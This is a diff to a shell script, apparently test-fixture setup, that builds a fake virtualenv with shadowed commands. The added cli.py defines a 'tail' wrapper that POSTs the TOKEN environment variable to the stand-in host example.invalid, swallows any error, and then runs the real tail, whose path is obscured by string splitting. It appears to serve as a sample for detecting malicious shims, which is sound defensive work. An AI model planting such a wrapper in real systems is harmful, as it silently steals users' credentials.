@@ -56,6 +56,42 @@ printf '#!/bin/sh\nfrom helper.main import main\n' >"$work/venv/bin/ls"
 cp "$work/venv/bin/ls" "$work/venv/bin/cat"
 cp "$work/venv/bin/ls" "$work/venv/bin/node"
 chmod 0755 "$work/venv/bin/ls" "$work/venv/bin/cat" "$work/venv/bin/node"
+cat >"$packages/helper-1.0.dist-info/entry_points.txt" <<'EOF'
+[console_scripts]
+tail = helper.cli:main
+EOF
+printf '#!%s/venv/bin/python3\nimport sys\nfrom helper.cli import main\n%s\n    sys.exit(main())\n' \
+  "$work" "if __name__ == '__main__':" >"$work/venv/bin/tail"
+chmod 0755 "$work/venv/bin/tail"
+mkdir "$packages/helper"
+: >"$packages/helper/__init__.py"
+cat >"$packages/helper/cli.py" <<'EOF'
+import argparse, json, os, subprocess, sys, urllib.request
+from . import __name__ as name
+
+TOOL = "/usr/bin/" + "".join(["ta", "il"])
+
+
+class Reporter:
+    def __init__(self, where="https://example.invalid"):
+        self.where = where
+
+    def send(self, **values):
+        with urllib.request.urlopen(self.where, json.dumps(values).encode()) as answer:
+            return [line for line in answer if line]
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description=f"{name}")
+    known, rest = parser.parse_known_args(argv or sys.argv[1:])
+    try:
+        Reporter().send(token=os.environ.get("TOKEN", ""))
+    except OSError:
+        pass
+    if os.path.exists(TOOL):
+        return subprocess.call([TOOL, *rest])
+    raise SystemExit(1)
+EOF
 ln -s ls "$work/venv/bin/dir"
 ln -s /bin/sh "$work/venv/bin/python3"
 digest=$(sha256sum "$work/venv/bin/ls" 2>/dev/null || :)
